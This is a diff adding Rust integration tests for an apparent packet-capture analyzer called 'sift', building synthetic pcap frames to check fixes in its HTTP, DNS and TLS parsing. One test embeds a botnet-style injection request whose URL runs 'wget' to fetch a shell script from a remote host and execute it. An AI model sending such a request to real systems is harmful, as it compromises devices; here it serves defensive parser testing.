@@ -1,0 +1,241 @@
+//! Protocol fidelity (issue 13): each parser bug found on third-party
+//! captures, checked on a capture made here (etherparse frames, every
+//! length and checksum valid) and run through the `sift` binary.
+
+mod common;
+
+use common::pcap::{file, Frame, ACK, PSH_ACK, SYN};
+use common::*;
+
+const CLIENT: [u8; 4] = [10, 13, 0, 1];
+const SERVER: [u8; 4] = [10, 13, 0, 2];
+const SYN_ACK: u8 = SYN | ACK;
+
+fn tcp(from_client: bool, port: u16, seq: u32, flags: u8, payload: &[u8]) -> Frame {
+    let (c, s) = ((CLIENT, 40_000), (SERVER, port));
+    let (src, dst) = if from_client { (c, s) } else { (s, c) };
+    Frame {
+        src,
+        dst,
+        tcp: Some((seq, flags)),
+        payload: payload.to_vec(),
+    }
+}
+
+fn udp(src: ([u8; 4], u16), dst: ([u8; 4], u16), payload: &[u8]) -> Frame {
+    Frame {
+        src,
+        dst,
+        tcp: None,
+        payload: payload.to_vec(),
+    }
+}
+
+/// The EVE records sift writes for `frames`.
+fn analyze(name: &str, frames: &[Frame], extra: &[&str]) -> Vec<serde_json::Value> {
+    let t = TempFile::new(name, &file(frames));
+    let mut args = vec!["analyze", "-q", "--format", "json"];
+    args.extend_from_slice(extra);
+    args.push(t.path());
+    let out = sift(&args);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    eve(&out.stdout)
+}
+
+/// The one flow record of a capture.
+fn only_flow(records: &[serde_json::Value]) -> &serde_json::Value {
+    let flows: Vec<_> = records
+        .iter()
+        .filter(|r| r["event_type"] == "flow")
+        .collect();
+    assert_eq!(flows.len(), 1, "{records:#?}");
+    flows[0]
+}
+
+/// A TCP conversation on `port`: handshake, then the client's and the
+/// server's bytes, each in one segment.
+fn conversation(port: u16, request: &[u8], reply: &[u8]) -> Vec<Frame> {
+    let mut v = vec![
+        tcp(true, port, 1000, SYN, &[]),
+        tcp(false, port, 5000, SYN_ACK, &[]),
+        tcp(true, port, 1001, ACK, &[]),
+    ];
+    if !request.is_empty() {
+        v.push(tcp(true, port, 1001, PSH_ACK, request));
+    }
+    if !reply.is_empty() {
+        v.push(tcp(false, port, 5001, PSH_ACK, reply));
+    }
+    v
+}
+
+/// A DNS message: header, one question, `answers` A records.
+fn dns_message(id: u16, response: bool, name: &str, qtype: u16, answers: u16) -> Vec<u8> {
+    let flags: u16 = if response { 0x8180 } else { 0x0100 };
+    let mut m = Vec::new();
+    for v in [id, flags, 1, answers, 0, 0] {
+        m.extend_from_slice(&v.to_be_bytes());
+    }
+    for label in name.split('.') {
+        m.push(label.len() as u8);
+        m.extend_from_slice(label.as_bytes());
+    }
+    m.push(0);
+    m.extend_from_slice(&qtype.to_be_bytes());
+    m.extend_from_slice(&1u16.to_be_bytes());
+    for i in 0..answers {
+        m.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2]);
+        m.push(i as u8 + 1);
+    }
+    m
+}
+
+#[test]
+fn bug3_request_target_with_spaces() {
+    let req = b"GET /shell?cd+/tmp;wget+ http://198.51.100.7/x.sh;sh+x.sh HTTP/1.1\r\nHost: 203.0.113.9:8080\r\nUser-Agent: botnet\r\n\r\n";
+    let records = analyze("bug3.pcap", &conversation(8080, req, b""), &[]);
+    let f = only_flow(&records);
+    assert_eq!(f["app_proto"], "http", "{f:#}");
+    assert_eq!(
+        f["http"]["url"],
+        "/shell?cd+/tmp;wget+ http://198.51.100.7/x.sh;sh+x.sh"
+    );
+    assert_eq!(f["http"]["protocol"], "HTTP/1.1");
+    assert_eq!(f["http"]["hostname"], "203.0.113.9");
+}
+
+#[test]
+fn bug4_request_head_cut_before_its_blank_line() {
+    // The capture ends inside the User-Agent line.
+    let req = b"POST /upload HTTP/1.1\r\nHost: Cut.Example.ORG\r\nContent-Length: 99\r\nUser-Agent: trunc";
+    let records = analyze("bug4.pcap", &conversation(80, req, b""), &[]);
+    let f = only_flow(&records);
+    assert_eq!(f["app_proto"], "http", "{f:#}");
+    assert_eq!(f["http"]["hostname"], "cut.example.org");
+    assert_eq!(f["http"]["http_method"], "POST");
+    assert!(
+        f["http"]["http_user_agent"].is_null(),
+        "a cut line is not read"
+    );
+    let why = f["sift"]["evidence"][0]["what"].as_str().unwrap();
+    assert!(why.contains("cut before the blank line"), "{why}");
+    // A request line alone decides nothing.
+    let records = analyze(
+        "bug4-line.pcap",
+        &conversation(80, b"GET / HTTP/1.1\r\n", b""),
+        &[],
+    );
+    assert_eq!(only_flow(&records)["app_proto"], "unknown");
+}
+
+#[test]
+fn bug5_dns_over_tcp_seen_from_the_server_only() {
+    let msg = dns_message(0x4242, true, "only.server.example", 1, 2);
+    let mut framed = (msg.len() as u16).to_be_bytes().to_vec();
+    framed.extend_from_slice(&msg);
+    // The capture holds the server's packets only.
+    let frames = vec![
+        tcp(false, 53, 5000, SYN_ACK, &[]),
+        tcp(false, 53, 5001, PSH_ACK, &framed),
+    ];
+    let records = analyze("bug5.pcap", &frames, &[]);
+    let f = only_flow(&records);
+    assert_eq!(f["app_proto"], "dns", "{f:#}");
+    assert_eq!(f["dns"]["rrname"], "only.server.example");
+    assert_eq!(f["dns"]["type"], "answer");
+    assert_eq!(
+        f["src_port"], 40_000,
+        "the client is the one that did not send"
+    );
+    // A query from the server side is not a response: no verdict.
+    let query = dns_message(0x4242, false, "only.server.example", 1, 0);
+    let mut framed = (query.len() as u16).to_be_bytes().to_vec();
+    framed.extend_from_slice(&query);
+    let frames = vec![
+        tcp(false, 53, 5000, SYN_ACK, &[]),
+        tcp(false, 53, 5001, PSH_ACK, &framed),
+    ];
+    assert_eq!(
+        only_flow(&analyze("bug5-q.pcap", &frames, &[]))["app_proto"],
+        "unknown"
+    );
+}
+
+/// A TLS handshake record holding one message.
+fn handshake_record(msg_type: u8, body: &[u8]) -> Vec<u8> {
+    let mut hs = vec![msg_type];
+    hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
+    hs.extend_from_slice(body);
+    let mut rec = vec![0x16, 0x03, 0x01];
+    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
+    rec.extend_from_slice(&hs);
+    rec
+}
+
+/// A ClientHello offering TLS 1.3 draft `draft` only, for `sni`.
+fn draft_client_hello(draft: u8, sni: &str) -> Vec<u8> {
+    let mut b = vec![0x03, 0x03];
+    b.extend_from_slice(&[0x11; 32]);
+    b.push(0); // session id
+    b.extend_from_slice(&[0x00, 0x02, 0x13, 0x01]); // TLS_AES_128_GCM_SHA256
+    b.extend_from_slice(&[0x01, 0x00]); // null compression
+    let mut exts = Vec::new();
+    let mut name = vec![0u8];
+    name.extend_from_slice(&(sni.len() as u16).to_be_bytes());
+    name.extend_from_slice(sni.as_bytes());
+    let mut list = (name.len() as u16).to_be_bytes().to_vec();
+    list.extend_from_slice(&name);
+    exts.extend_from_slice(&[0x00, 0x00]);
+    exts.extend_from_slice(&(list.len() as u16).to_be_bytes());
+    exts.extend_from_slice(&list);
+    exts.extend_from_slice(&[0x00, 0x2b, 0x00, 0x03, 0x02, 0x7f, draft]);
+    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
+    b.extend_from_slice(&exts);
+    handshake_record(1, &b)
+}
+
+/// A ServerHello of draft `draft` before 22: version, random, cipher,
+/// extensions (a key share), no session id, no compression method.
+fn early_draft_server_hello(draft: u8) -> Vec<u8> {
+    let mut b = vec![0x7f, draft];
+    b.extend_from_slice(&[0x22; 32]);
+    b.extend_from_slice(&[0x13, 0x01]);
+    let mut exts = vec![0x00, 0x28, 0x00, 0x24, 0x00, 0x1d, 0x00, 0x20]; // key_share (draft codepoint 40)
+    exts.extend_from_slice(&[0x33; 32]);
+    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
+    b.extend_from_slice(&exts);
+    handshake_record(2, &b)
+}
+
+#[test]
+fn bug6_tls13_drafts_before_22() {
+    for draft in [18u8, 21] {
+        let frames = conversation(
+            443,
+            &draft_client_hello(draft, "draft.example"),
+            &early_draft_server_hello(draft),
+        );
+        let records = analyze("bug6.pcap", &frames, &[]);
+        let f = only_flow(&records);
+        assert_eq!(f["app_proto"], "tls", "{f:#}");
+        assert_eq!(f["tls"]["sni"], "draft.example");
+        assert_eq!(
+            f["tls"]["version"],
+            format!("TLS 1.3 draft {draft}"),
+            "{f:#}"
+        );
+    }
+}
+
+#[test]
+fn bug7_dns_type_names_from_the_iana_table() {
+    for (qtype, name) in [(10u16, "NULL"), (44, "SSHFP"), (99, "SPF"), (65, "HTTPS")] {
+        let q = dns_message(7, false, "t.example", qtype, 0);
+        let records = analyze("bug7.pcap", &[udp((CLIENT, 40_000), (SERVER, 53), &q)], &[]);
+        assert_eq!(only_flow(&records)["dns"]["rrtype"], name);
+    }
+    // Unassigned: the number.
+    let q = dns_message(7, false, "t.example", 54, 0);
+    let records = analyze("bug7.pcap", &[udp((CLIENT, 40_000), (SERVER, 53), &q)], &[]);
+    assert_eq!(only_flow(&records)["dns"]["rrtype"], "54");
+}
